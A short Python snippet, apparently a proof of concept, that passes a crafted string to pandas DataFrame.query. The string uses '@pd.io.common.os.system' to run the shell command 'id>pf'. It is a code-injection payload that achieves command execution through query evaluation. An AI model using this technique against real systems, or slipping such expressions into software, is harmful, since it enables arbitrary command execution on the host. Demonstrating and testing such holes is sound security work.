import pandas as pd
steps = [("query", "@pd.io.common.os.system('id>pf') == 0")]
df = pd.DataFrame({"a": [1]})
for name, text in steps:
    df = getattr(df, name)(text)
